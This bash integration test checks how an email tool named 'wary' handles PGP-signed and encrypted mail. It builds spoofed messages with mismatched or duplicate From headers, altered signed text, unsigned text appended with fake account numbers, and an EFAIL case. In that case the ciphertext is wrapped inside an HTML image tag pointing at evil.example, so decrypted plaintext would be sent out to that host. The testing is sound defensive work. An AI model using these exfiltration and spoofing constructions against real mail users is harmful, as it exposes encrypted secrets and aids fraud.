#!/usr/bin/env bash
# PGP through the real binary with the test servers' keys: `wary inspect
# --json` on messages gpg made (PGP/MIME and inline, signed and
# encrypted), on the attack messages built around them, and `wary pgp`
# importing a key attached to a message.
set -u
: "${TOP:=$(cd "$(dirname "$0")/../.." && pwd)}"
. "$TOP/tests/lib.sh"
. "$TOP/tests/integration/pgp-common.bash"

if ! command -v gpg >/dev/null || [ ! -x /usr/bin/python3 ]; then
	skip "pgp" "gpg or python3 missing"
	t_done; exit
fi
. "$TOP/tests/servers/env.sh" 2>/dev/null || echo "# test servers not running: keys made here"
tmp=$(mktemp -d)
trap 'pgp_cleanup; rm -rf "$tmp"' EXIT
if ! pgp_setup; then
	not_ok "a GnuPG home with alice's and bob's keys"
	t_done; exit 1
fi
ok "a GnuPG home with alice's and bob's keys (from the servers: $PGP_FROM_SERVERS)"
A="Alice Test <alice@$PGP_DOMAIN>"
B="Bob Test <bob@$PGP_DOMAIN>"
pgp_entity "The meeting moves to Thursday, 10:00." >"$tmp/ent"

# good PGP/MIME signature
{ pgp_headers "$A"; pgp_signed_body "$ALICE_FPR" "$tmp/ent"; } >"$tmp/good.eml"
check "gpg-made PGP/MIME: signed whole, valid, alice's fingerprint" \
	pgp_json "$tmp/good.eml" "p['signed']=='whole' and p['valid'] is True and p['fingerprint']=='$ALICE_FPR' and p['status']=='good'"
"$WARY" inspect "$tmp/good.eml" | grep -q "summary: PGP: good signature from Alice Test <alice@$PGP_DOMAIN>" &&
	ok "inspect's text report says good signature" || not_ok "inspect's text report says good signature"

# signer is not From
{ pgp_headers "$B"; pgp_signed_body "$ALICE_FPR" "$tmp/ent"; } >"$tmp/notfrom.eml"
check "spoof: alice's signature under From bob: not valid, signer-not-from" \
	pgp_json "$tmp/notfrom.eml" "p['valid'] is False and 'signer-not-from' in p['flags']"

# two From headers
{ pgp_headers "$A"; printf 'From: %s\r\n' "$B"; pgp_signed_body "$ALICE_FPR" "$tmp/ent"; } >"$tmp/twofrom.eml"
check "spoof: two From headers: not valid" \
	pgp_json "$tmp/twofrom.eml" "p['valid'] is False and 'from-ambiguous' in p['flags']"

# bad signature: the signed text changed after signing
sed 's/Thursday/Friday, /' "$tmp/good.eml" >"$tmp/bad.eml"
check "spoof: changed text: bad signature, not valid" \
	pgp_json "$tmp/bad.eml" "p['valid'] is False and p['status']=='bad' and 'bad-signature' in p['flags']"

# wrapped in a mixed message with an attachment
{ pgp_headers "$A"; printf 'Content-Type: multipart/mixed; boundary="mx"\r\n\r\n--mx\r\nContent-Type: text/plain\r\n\r\nThe new account number is XX-666 (see signed note).\r\n--mx\r\n'
  pgp_signed_body "$ALICE_FPR" "$tmp/ent"; printf '\r\n--mx\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="bank.pdf"\r\n\r\n%%PDF-1.4\r\n--mx--\r\n'; } >"$tmp/mixed.eml"
check "spoof: signed part inside mixed: signed part, not valid" \
	pgp_json "$tmp/mixed.eml" "p['signed']=='part' and p['valid'] is False and 'part-only' in p['flags']"

# gpg-made inline clearsigned, with text after it
printf 'Thursday it is.\n' >"$tmp/clear.txt"
gpg --batch --yes -u "$ALICE_FPR" --clearsign -o "$tmp/clear.asc" "$tmp/clear.txt" 2>/dev/null
{ pgp_headers "$A"; printf 'Content-Type: text/plain\r\n\r\n'; cat "$tmp/clear.asc"; } >"$tmp/inline.eml"
check "gpg-made clearsigned message: whole, valid" \
	pgp_json "$tmp/inline.eml" "p['signed']=='whole' and p['valid'] is True and 'inline' in p['flags']"
{ cat "$tmp/inline.eml"; printf '\r\nPS: use account XX-666 instead.\r\n'; } >"$tmp/inline-after.eml"
check "spoof: text after the clearsigned block: part, unsigned-text" \
	pgp_json "$tmp/inline-after.eml" "p['signed']=='part' and p['valid'] is False and 'unsigned-text' in p['flags']"

# encrypted to alice, signed by bob (From bob)
pgp_entity "Secret: the code is 4242." >"$tmp/sent"
{ pgp_headers "$B"; pgp_encrypted_body "$ALICE_FPR" "$BOB_FPR" "$tmp/sent"; } >"$tmp/enc.eml"
check "gpg-made PGP/MIME encrypted+signed: both whole, valid, recipients listed" \
	pgp_json "$tmp/enc.eml" "p['encrypted']=='whole' and p['signed']=='whole' and p['valid'] is True and len(p['recipients'])>=1"
"$WARY" inspect --json "$tmp/enc.eml" | grep -q "4242" && not_ok "inspect prints no plaintext" || ok "inspect prints no plaintext"

# EFAIL: the same ciphertext between attacker HTML parts
{ pgp_headers "$B"; printf 'Content-Type: multipart/mixed; boundary="ef"\r\n\r\n--ef\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/x?\r\n--ef\r\n'
  pgp_encrypted_body "$ALICE_FPR" "" "$tmp/sent"; printf '\r\n--ef\r\nContent-Type: text/html\r\n\r\n">\r\n--ef--\r\n'; } >"$tmp/efail.eml"
check "efail: encrypted part between HTML parts: part, not decrypted" \
	pgp_json "$tmp/efail.eml" "p['encrypted']=='part' and 'encrypted-part-not-decrypted' in p['flags']"
"$WARY" show "$tmp/efail.eml" 2>/dev/null | grep -q 4242 && not_ok "efail: wary show has no plaintext" || ok "efail: wary show has no plaintext"

# no MDC
{ pgp_headers "$B"; pgp_encrypted_body "$ALICE_FPR" "" "$tmp/sent" --rfc2440; } >"$tmp/nomdc.eml"
check "efail: without MDC: decryption-failed, error shown" \
	pgp_json "$tmp/nomdc.eml" "p['encrypted']=='whole' and 'decryption-failed' in p['flags'] and p['error']"

# the fixtures that need no key (tests/fixtures/pgp/README)
fx=$TOP/tests/fixtures/pgp
check "fixture: a third part after the signature: malformed, not valid" \
	pgp_json "$fx/signed-three-parts.eml" "p['valid'] is False and 'malformed' in p['flags']"
check "fixture: no signature part: malformed, not valid" \
	pgp_json "$fx/signed-no-signature-part.eml" "p['valid'] is False and 'malformed' in p['flags']"
check "fixture: a garbage signature: an error, not valid" \
	pgp_json "$fx/signed-garbage-signature.eml" "p['valid'] is False and 'signature-error' in p['flags'] and p['error']"
check "fixture: a garbage ciphertext: decryption-failed, an error" \
	pgp_json "$fx/encrypted-garbage.eml" "p['encrypted']=='whole' and 'decryption-failed' in p['flags'] and p['error']"
check "fixture: an HTML body drawing the status line is not signed" \
	pgp_json "$fx/html-imitates-status.eml" "p['signed']=='none' and p['valid'] is False"
check "fixture: a forwarded signed message does not sign this one" \
	pgp_json "$fx/forwarded-signed.eml" "p['signed']=='none' and p['valid'] is False"

# a key attached to a message, imported by wary pgp import
kh=$(mktemp -d "${TMPDIR:-/tmp}/wpk.XXXXXX")
GNUPGHOME=$kh gpg --batch --quiet --passphrase '' --quick-gen-key "Carol Test <carol@$PGP_DOMAIN>" future-default default never 2>/dev/null
cfpr=$(GNUPGHOME=$kh gpg --batch --with-colons --fingerprint "<carol@$PGP_DOMAIN>" 2>/dev/null | awk -F: '$1=="fpr"{print $10; exit}')
key=$(GNUPGHOME=$kh gpg --batch --armor --export "$cfpr" 2>/dev/null)
GNUPGHOME=$kh gpgconf --kill all >/dev/null 2>&1; rm -rf "$kh"
{ pgp_headers "Carol Test <carol@$PGP_DOMAIN>"; printf 'Content-Type: multipart/mixed; boundary="k"\r\n\r\n--k\r\nContent-Type: text/plain\r\n\r\nMy key.\r\n--k\r\nContent-Type: application/pgp-keys; name="carol.asc"\r\n\r\n%s\r\n--k--\r\n' "$key"; } >"$tmp/key.eml"
check "a message with a key attached says so" pgp_json "$tmp/key.eml" "'keys-attached' in p['flags'] and p['valid'] is False"
out=$("$WARY" pgp import "$tmp/key.eml" 2>&1)
echo "$out" | grep -q "1 imported" && echo "$out" | grep -q "$cfpr" &&
	ok "wary pgp import takes the key attached to the message" || { not_ok "wary pgp import takes the key attached to the message"; echo "$out" | sed 's/^/# /'; }
"$WARY" pgp show "$cfpr" | grep -q "carol@$PGP_DOMAIN" && ok "wary pgp show names the key's UID" || not_ok "wary pgp show names the key's UID"
"$WARY" pgp keys "alice@$PGP_DOMAIN" | grep -q "$ALICE_FPR.*validity=ultimate usable" && ok "wary pgp keys lists alice's usable key" || not_ok "wary pgp keys lists alice's usable key"
"$WARY" pgp import "$tmp/ent" >/dev/null 2>&1 && not_ok "importing a file without a key fails" || ok "importing a file without a key fails"
t_done
